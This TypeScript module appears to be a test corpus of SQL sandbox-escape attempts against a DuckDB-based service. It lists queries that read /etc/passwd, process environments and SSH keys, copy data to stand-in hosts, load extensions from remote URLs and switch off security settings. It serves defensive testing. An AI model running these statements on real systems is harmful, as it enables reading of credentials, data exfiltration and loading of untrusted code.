/** Ways out of an account's data, as somebody would try them: into files, the network, code and settings of the machine. */

const READERS =
  `read_csv read_csv_auto read_json read_json_auto read_json_objects read_json_objects_auto read_ndjson
  read_ndjson_auto read_ndjson_objects read_text read_blob read_parquet parquet_scan parquet_metadata parquet_schema
  parquet_file_metadata parquet_kv_metadata parquet_full_metadata sniff_csv glob`
    .trim()
    .split(/\s+/)

const PLACES = [
  '/etc/passwd',
  '/proc/self/environ',
  '../../../../etc/hostname',
  'file:///etc/hosts',
  'https://example.com/x.csv',
  's3://bucket/x.parquet',
]

const FORMS = [
  `FROM read_text('/etc/passwd')`,
  `FROM "read_text"('/etc/passwd')`,
  `FROM READ_TEXT ('/etc/passwd')`,
  `FROM /* ; */ read_text /* -- */ ('/etc/passwd')`,
  `FROM read_text(['/etc/passwd', '/etc/hosts'])`,
  `FROM read_text('/etc/' || 'passwd')`,
  `FROM read_text(E'/etc/\\x70asswd')`,
  `FROM read_text($$/etc/passwd$$)`,
  `FROM main.read_text('/etc/passwd')`,
  `FROM system.main.read_text('/etc/passwd')`,
  `FROM "system"."main"."read_text"('/etc/passwd')`,
  `SELECT (SELECT content FROM read_text('/etc/passwd'))`,
  `SELECT * FROM range(1) t, LATERAL (FROM read_text('/etc/passwd'))`,
  `WITH x AS (FROM read_text('/etc/passwd')) FROM x`,
  `WITH RECURSIVE x AS (FROM read_text('/etc/passwd')) FROM x`,
  `SELECT 1 UNION ALL SELECT size FROM read_text('/etc/passwd')`,
  `SELECT 1 WHERE EXISTS (FROM read_text('/etc/passwd'))`,
  `PIVOT (FROM read_text('/etc/passwd')) ON filename USING count(*)`,
  `UNPIVOT (FROM read_text('/etc/passwd')) ON content`,
  `SUMMARIZE FROM read_text('/etc/passwd')`,
  `DESCRIBE FROM read_text('/etc/passwd')`,
  `EXPLAIN FROM read_text('/etc/passwd')`,
  `EXPLAIN ANALYZE FROM read_text('/etc/passwd')`,
  `EXPLAIN (ANALYZE, FORMAT json) FROM read_text('/etc/passwd')`,
  `CREATE TABLE stolen AS FROM read_text('/etc/passwd')`,
  `CREATE TEMP TABLE stolen AS FROM read_text('/etc/passwd')`,
  `CREATE VIEW stolen AS FROM read_text('/etc/passwd')`,
  `CREATE TABLE stolen AS SELECT * FROM '/etc/passwd'`,
  `INSERT INTO t SELECT size FROM read_text('/etc/passwd')`,
  `UPDATE t SET a = (SELECT size FROM read_text('/etc/passwd'))`,
  `DELETE FROM t WHERE a IN (SELECT size FROM read_text('/etc/passwd'))`,
  `MERGE INTO t USING read_text('/etc/passwd') AS s ON false WHEN NOT MATCHED THEN INSERT VALUES (1)`,
  `FROM query('FROM read_text(''/etc/passwd'')')`,
  `FROM query_table('/etc/passwd')`,
  `FROM query_table(['/etc/passwd.csv'])`,
  `FROM json_execute_serialized_sql(json_serialize_sql('FROM read_text(''/etc/passwd'')'))`,
  `PREPARE p AS FROM read_text('/etc/passwd')`,
  `CALL read_text('/etc/passwd')`,
]

/** A path where the name of a table stands. */
const SCANS = [
  '/etc/passwd',
  '/etc/passwd.csv',
  '/etc/*.csv',
  '/etc/**/*.json',
  '/proc/self/maps',
  '/proc/self/fd/0',
  '/dev/stdin',
  '~/.ssh/id_rsa.txt',
  'outside.parquet',
  '../outside.parquet',
  'outside.duckdb',
  'http://127.0.0.1:9/x.csv',
  'https://example.com/x.parquet',
  's3://bucket/x.parquet',
  'gcs://bucket/x.parquet',
  'hf://datasets/x/y.csv',
].flatMap((path) => [`FROM '${path}'`, `SELECT * FROM "${path}"`])

const COPIES = [
  '/tmp/boathouse-out.csv',
  '../boathouse-out.csv',
  'boathouse-out.csv',
  '/dev/stdout',
  '/proc/self/fd/1',
  's3://bucket/x.csv',
  'https://example.com/x.csv',
].flatMap((path) => [
  `COPY t TO '${path}'`,
  `COPY (SELECT 1) TO '${path}' (FORMAT csv)`,
  `COPY (SELECT 1 AS a) TO '${path}' (FORMAT parquet)`,
  `COPY (SELECT 1 AS a) TO '${path}' (FORMAT json)`,
  `COPY t FROM '${path}'`,
  `COPY t FROM '${path}' (FORMAT json)`,
])

const ATTACHMENTS = [
  `ATTACH '/tmp/boathouse-out.duckdb'`,
  `ATTACH '/tmp/boathouse-out.duckdb' AS other (READ_ONLY)`,
  `ATTACH IF NOT EXISTS '/tmp/boathouse-out.duckdb' AS other`,
  `ATTACH DATABASE '/tmp/boathouse-out.duckdb' AS other`,
  `ATTACH OR REPLACE '/tmp/boathouse-out.duckdb' AS other`,
  `ATTACH '../boathouse-out.duckdb' AS other`,
  `ATTACH 'boathouse-out.db' AS other (TYPE sqlite)`,
  `ATTACH 'host=localhost' AS other (TYPE postgres)`,
  `ATTACH 'host=localhost' AS other (TYPE mysql)`,
  `ATTACH 'https://example.com/x.duckdb' AS other`,
  `ATTACH 's3://bucket/x.duckdb' AS other`,
  `ATTACH 'ducklake:/tmp/x' AS other`,
  `EXPORT DATABASE '/tmp/boathouse-out'`,
  `EXPORT DATABASE '/tmp/boathouse-out' (FORMAT parquet)`,
  `EXPORT DATABASE default_catalog TO '/tmp/boathouse-out'`,
  `IMPORT DATABASE '/tmp/boathouse-out'`,
  `COPY FROM DATABASE default_catalog TO other`,
]

const CODE = [
  ...[
    'httpfs',
    'sqlite',
    'postgres',
    'mysql',
    'spatial',
    'aws',
    'azure',
    'delta',
    'iceberg',
    'excel',
    'fts',
    'inet',
  ].flatMap((extension) => [`INSTALL ${extension}`, `LOAD ${extension}`]),
  `FORCE INSTALL httpfs`,
  `INSTALL httpfs FROM core_nightly`,
  `INSTALL shellfs FROM community`,
  `INSTALL '/tmp/x.duckdb_extension'`,
  `INSTALL 'https://example.com/x.duckdb_extension'`,
  `LOAD '/tmp/x.duckdb_extension'`,
  `LOAD '../x.duckdb_extension'`,
  `UPDATE EXTENSIONS`,
  `UPDATE EXTENSIONS (httpfs)`,
]

const SECRETS = [
  `CREATE SECRET s (TYPE s3, KEY_ID 'a', SECRET 'b')`,
  `CREATE PERSISTENT SECRET s (TYPE s3, KEY_ID 'a', SECRET 'b')`,
  `CREATE TEMPORARY SECRET s (TYPE gcs)`,
  `DROP PERSISTENT SECRET s`,
  `SELECT getenv('HOME')`,
  `SELECT getenv('PATH')`,
]

const SETTINGS = `access_mode allow_community_extensions allow_persistent_secrets allow_unsigned_extensions
  allowed_configs allowed_directories allowed_paths autoinstall_extension_repository autoinstall_known_extensions
  autoload_known_extensions custom_extension_repository custom_user_agent default_secret_storage enable_external_access
  enable_external_file_cache enable_http_metadata_cache enable_logging enable_object_cache extension_directory
  file_search_path home_directory http_proxy http_proxy_password immediate_transaction_mode lock_configuration
  log_query_path logging_level max_temp_directory_size secret_directory temp_directory temp_file_encryption
  wal_autocheckpoint`
  .trim()
  .split(/\s+/)
  .flatMap((name) => [
    `SET ${name} = 'true'`,
    `SET GLOBAL ${name} = 'true'`,
    `PRAGMA ${name} = 'true'`,
    `RESET ${name}`,
  ])

export const ESCAPE_ATTEMPTS: readonly string[] = [
  ...READERS.flatMap((reader) => PLACES.map((place) => `SELECT * FROM ${reader}('${place}')`)),
  ...FORMS,
  ...SCANS,
  ...COPIES,
  ...ATTACHMENTS,
  ...CODE,
  ...SECRETS,
  ...SETTINGS,
]

/** Harmless on their own, since nothing that would use them is within reach. */
export const CLOSED_BY_GUARD: readonly string[] = [
  `CREATE OR REPLACE SECRET s (TYPE http, BEARER_TOKEN 'x')`,
  `DROP SECRET s`,
  `FROM which_secret('s3://bucket/x', 's3')`,
]
